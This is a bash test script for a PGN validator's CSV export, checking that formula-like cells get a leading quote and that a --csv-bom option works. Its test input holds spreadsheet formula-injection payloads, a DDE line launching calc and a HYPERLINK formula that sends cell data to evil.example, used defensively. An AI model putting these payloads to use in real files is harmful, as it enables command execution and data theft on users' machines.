#!/usr/bin/env bash
# CSV for spreadsheets (reliability review 2026-12-05, N7; UX review C13): a cell a spreadsheet
# would take for a formula starts with ' (OWASP), and --csv-bom puts a UTF-8 byte-order mark
# first, for Excel.
#   spreadsheets.sh XQARB SOURCE_DIR WORK_DIR
set -uo pipefail
source "$(dirname "$0")/cli_helpers.sh"
enter_test_folder "$@"
# Tags as the review's csv_formula_injection.pgn has them, and one starting with a tab (a carriage
# return ends a PGN tag's line: lib/tests checks it).
printf '%s\n' '[Event "=cmd|'"'"' /C calc'"'"'!A0"]' '[Red "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")"]' \
  '[Black "+1+1"]' '[Date "-2+3"]' '[Result "*"]' \
  '[FEN "3k5/9/9/9/9/9/9/9/9/4K3R w - - 0 1"]' '' '1. i0i9 d9d8 2. i9i8 d8d9 *' '' \
  "$(printf '[Event "\tTab"]')" '' '1. h2e2 *' >"$work/formulas.pgn"
expect_exit 0 validate --format csv "$work/formulas.pgn"
row=$(sed -n 2p "$work/out")
# file,game,line,event,red,black,date: each formula-like cell starts with '.
python3 - "$row" <<'PY' || fail "formula-like CSV cells are not defused: $row"
import csv, io, sys
cells = next(csv.reader(io.StringIO(sys.argv[1])))
event, red, black, date = cells[3:7]
assert event == "'=cmd|' /C calc'!A0", event
assert red == "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", red
assert black == "'+1+1", black
assert date == "'-2+3", date
assert all(not c or c[0] not in "=+-@\t\r" for c in cells), cells
PY
[ "$(sed -n 3p "$work/out" | cut -d, -f4)" = "'$(printf '\t')Tab" ] || fail "a cell starting with a tab: $(sed -n 3p "$work/out")"
expect_in out ',4,ok,,*,' # cells that are no formula as they are
# JSON Lines and the summary are not for spreadsheets: the values as recorded.
expect_exit 0 validate --format jsonl "$work/formulas.pgn"
expect_in out '"black":"+1+1"'

# --csv-bom: the mark, then the header; refused with another format.
sample=testdata/samples/world_championship_2001_perpetual_chase.pgn
expect_exit 0 validate --format csv --csv-bom "$sample"
[ "$(head -c 8 "$work/out" | od -An -tx1 | tr -d ' \n')" = efbbbf66696c652c ] \
  || fail "--csv-bom: the output starts $(head -c 8 "$work/out" | od -An -tx1)"
expect_exit 0 validate --csv-bom "$sample" -o "$work/rows.csv"
[ "$(head -c 3 "$work/rows.csv" | od -An -tx1 | tr -d ' \n')" = efbbbf ] || fail "--csv-bom -o rows.csv has no mark"
expect_exit 0 validate --format csv "$sample"
[ "$(head -c 5 "$work/out")" = "file," ] || fail "without --csv-bom the CSV starts $(head -c 5 "$work/out" | od -An -c)"
expect_exit 2 validate --format jsonl --csv-bom "$sample"
expect_in err '--csv-bom goes with the csv format only'

# The review's own record, when it is beside the checkout.
review=../shared/reviews/2026-12-05/repro/csv_formula_injection.pgn
if [ -f "$review" ]; then
  expect_exit 1 validate --format csv "$review"
  python3 -c 'import csv,sys; rows=list(csv.reader(open(sys.argv[1]))); sys.exit(any(c[:1] in ("=","+","-","@","\t","\r") and c for r in rows[1:] for c in r))' \
    "$work/out" || fail "the review's csv_formula_injection.pgn still gives formula cells: $(sed -n 2p "$work/out")"
  finish
else
  finish "ok (the review's record skipped: $review is not there)"
fi
